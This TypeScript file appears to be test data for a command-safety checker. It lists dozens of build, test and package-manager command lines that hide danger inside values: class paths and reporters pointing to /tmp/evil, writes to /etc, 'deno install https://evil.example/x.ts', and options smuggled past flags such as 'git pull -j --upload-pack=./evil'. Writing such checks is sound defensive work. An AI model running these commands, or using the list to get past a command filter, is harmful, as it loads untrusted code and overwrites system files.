import { tricks } from './table.ts';
import type { Trick } from './table.ts';

/** Dangers inside values: path lists, reporters and formatters that are code, properties, words handed on. */
export const hiddenTricks: readonly Trick[] = tricks(String.raw`
java -cp build:/tmp/evil Main ## a class path is a list; one entry is outside
java -cp build:../outside Main ## the same
java -Djava.class.path=/tmp/evil Main ## a class path as a property
java -Djava.library.path=/tmp/evil Main ## native code from outside
javac -cp /tmp/evil.jar x.java ## annotation processors on the class path run
javac -cp build:/tmp/evil.jar x.java ## the same in a list
mvn test -Djvm=/tmp/evil ## the test runner starts that program
mvn test -DargLine=-javaagent:/tmp/x.jar ## loads code
mvn test -Dmaven.ext.class.path=/tmp/evil.jar ## loads code
gradle build -Pandroid.aapt2=/tmp/evil ## a program by a property
dotnet test -l 'trx;LogFileName=/etc/x' ## writes outside
tsc @options ## options nobody can see
tsc -p /tmp/evil/tsconfig.json ## a configuration outside says where files are written
eslint -f /tmp/evil.js src ## a formatter is code
eslint --format=../outside/evil.js src ## the same
eslint --fix /etc/x.js ## writes outside
mocha -R /tmp/evil.js ## a reporter is code
jest --coverageReporters=/tmp/evil.js ## a reporter is code
jest --rootDir=/tmp/evil ## a project outside
vitest --reporter=/tmp/evil.ts ## a reporter is code
vitest --environment=/tmp/evil.ts ## an environment is code
vitest --pool=/tmp/evil.ts ## a pool is code
vitest --dir=/tmp/evil ## tests from outside
node --test --test-reporter=/tmp/evil.mjs ## a reporter is code
ts-node -C /tmp/evil src/index.ts ## a compiler is code
npm help install ## starts a viewer
npm fund lodash ## starts a browser
bun run /tmp/evil.ts ## a file outside
bun build src/index.ts --outdir=/etc ## writes outside
bun pm trust evil ## runs scripts of a package
yarn workspace a dlx evil ## fetches and runs a package
yarn workspace a exec sudo id ## starts a program
yarn workspaces foreach exec sudo id ## starts a program
yarn workspaces run exec sudo id ## starts a program
deno install https://evil.example/x.ts ## installs a program
deno test --coverage=/etc ## writes outside
turbo login ## an account
playwright install ## downloads programs
pytest --debug=/etc/x ## writes outside
pytest -c /tmp/evil.ini ## a configuration outside names plugins
pytest --cov-report=html:/tmp/x ## writes outside
pip install --report=/etc/x requests ## writes outside
mypy --config-file=/tmp/evil.ini src ## a configuration outside names plugins
mypy --install-types --non-interactive src ## installs packages
pylint --rcfile=/tmp/evil src ## a configuration outside holds code
flake8 --config=/tmp/evil src ## a configuration outside names plugins
cargo rustc -- -C linker=/tmp/evil ## words for the compiler
cargo clippy -- -C linker=/tmp/evil ## words for the compiler
cargo clippy -- -Z codegen-backend=/tmp/evil.so ## the same
cargo fmt -- /etc/x.rs ## writes outside
go fmt ../outside ## writes outside
go work use /tmp/evil ## adds code from outside
cmake -B build -DCMAKE_PREFIX_PATH=/tmp/evil ## packages found there are code
cmake -B build -DFoo_DIR=../outside ## the same
cmake --build build -- SHELL=/tmp/evil ## words for make
cmake --build build -- --eval=x ## the same
rspec /tmp/evil_spec.rb ## code from outside
rubocop -a /etc/x.rb ## writes outside
rake RUBYOPT=-r/tmp/evil test ## sets a variable of what it starts
docker compose -f /tmp/evil.yml build ## a project outside
python3 -X pycache_prefix=/tmp script.py ## writes outside
pandoc --no-check-certificate https://evil.example/x ## no verification
git pull -j --upload-pack=./evil ## -j takes no separate value there, so the next word is an option
git diff -U --output=/etc/x ## the same
git shortlog --committer --output=/etc/x ## the same
cargo test -p --config=./evil.toml ## the same
cargo run -p tool --config ./evil.toml ## options behind an optional value
nm -j --plugin=./evil.so x ## a flag of nm that is no option with a value
javac -h /etc x.java ## not help: a directory for headers
`);
